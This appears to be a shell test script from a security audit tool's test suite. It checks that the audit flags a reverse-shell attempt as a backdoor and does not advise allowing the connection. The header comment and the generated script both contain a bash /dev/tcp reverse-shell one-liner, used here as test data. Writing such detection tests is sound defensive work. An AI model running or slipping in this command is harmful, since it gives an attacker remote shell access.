#!/bin/sh
# `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` with nobody listening: the
# attempt is a reverse shell (backdoor fails), the report never says
# "None observed", and no advice says to allow the attacker's endpoint.
. "$(dirname "$0")/lib.sh"
printf '#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\necho "fell through: $MARK"\n' > "$tmp/work/rs.sh"
chmod 755 "$tmp/work/rs.sh"
run_audit -- bash rs.sh
assert_common
[ "$RC" -eq 1 ] || fail "the attempted reverse shell did not fail the audit (exit $RC)"
st=$(json '[c["status"] for c in r["categories"] if c["id"]=="backdoor"][0]')
[ "$st" = fail ] || fail "backdoor is $st"
grep -q "reverse shell attempted" "$OUT/report.json" || fail "no reverse-shell attempt finding"
grep -q "^| Backdoor Indicators | None observed" "$OUT/report.md" && fail "the table says None observed"
grep -qi "add the local endpoint to allow_connect" "$OUT/report.md" && fail "the advice says to allow the attacker's endpoint"
pass "/dev/tcp reverse shell attempt"
